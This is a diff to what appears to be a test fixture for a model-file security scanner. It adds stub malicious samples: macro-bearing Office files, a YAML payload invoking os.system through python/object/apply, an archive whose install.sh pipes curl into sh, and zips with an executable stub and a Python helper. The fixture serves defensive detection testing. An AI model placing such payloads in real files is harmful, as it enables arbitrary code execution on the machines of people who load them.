@@ -195,6 +195,12 @@ def harmful(canary: Path | str) -> list[Harmful]:
         "handler.mar": zipped({"MAR-INF/MANIFEST.json": b"{}", "handler.py": b"import os"}),
         "own_code.zip": zipped({"config.json": b'{"auto_map": {"AutoModel": "modeling.Net"}}'}),
         "packages.zip": zipped({"requirements.txt": b"numpy\ntorchtriton==1.0\n"}),
+        "macros.xlsm": zipped({"[Content_Types].xml": b"<x/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
+        "macros.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500) + "_VBA_PROJECT".encode("utf-16-le"),
+        "object.yaml": b"net: !!python/object/apply:os.system ['id']\n",
+        "shell.zip": zipped({"model.bin": bytes(99), "install.sh": b"curl x | sh"}),
+        "windows.zip": zipped({"model.bin": bytes(99), "tool.exe": b"MZ" + bytes(99)}),
+        "code.zip": zipped({"model.bin": bytes(99), "helper.py": b"import os"}),
     }  # fmt: skip
     for kind, pack in {"zlib": 3, "gz": ("gzip", 3), "bz2": ("bz2", 3), "xz": ("xz", 3)}.items():
         files[f"packed_{kind}.joblib"] = _saved(joblib.dump, [np.ones(9), Canary(path)], compress=pack)
